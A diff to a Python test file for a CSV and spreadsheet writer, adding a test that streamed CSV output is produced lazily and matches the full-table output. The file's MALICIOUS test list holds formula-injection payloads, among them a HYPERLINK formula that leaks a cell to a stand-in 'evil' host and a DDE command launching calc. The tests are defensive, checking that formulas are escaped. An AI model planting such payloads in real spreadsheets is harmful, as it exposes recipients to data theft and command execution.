@@ -12,8 +12,8 @@ import pytest
 import python_calamine as pc
 
 from facturador.tabular import sheets
-from facturador.tabular.sheets import (DATE, DATETIME, DECIMAL, INTEGER, MONEY, Column, TableWriter, table_bytes,
-                                       write_table)
+from facturador.tabular.sheets import (DATE, DATETIME, DECIMAL, INTEGER, MONEY, Column, TableWriter, stream_csv,
+                                       table_bytes, write_table)
 
 MALICIOUS = ["=HYPERLINK(\"http://evil/?\"&A1, \"clic\")", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A9)",
              "\t=1", "\r=1"]
@@ -148,3 +148,18 @@ def test_streaming_in_constant_memory(fmt, tmp_path):
     assert (tmp_path / f"t-10000.{fmt}").stat().st_size > 5 * (tmp_path / f"t-1000.{fmt}").stat().st_size
     assert large < small * 1.5 + 200_000, (small, large)
 
+
+
+def test_stream_csv_yields_pieces_as_rows_are_consumed():
+    consumed = []
+
+    def rows():
+        for i in range(20_000):
+            consumed.append(i)
+            yield [f"=ref{i}", D(i)]
+
+    pieces = stream_csv([Column("Ref"), Column("Valor", MONEY)], rows())
+    first = next(pieces)
+    assert first.startswith(b"\xef\xbb\xbfRef;Valor\r\n'=ref0;0,00\r\n") and len(consumed) < 20_000
+    data = first + b"".join(pieces)
+    assert data == table_bytes("csv", [Column("Ref"), Column("Valor", MONEY)], ([f"=ref{i}", D(i)] for i in range(20_000)))
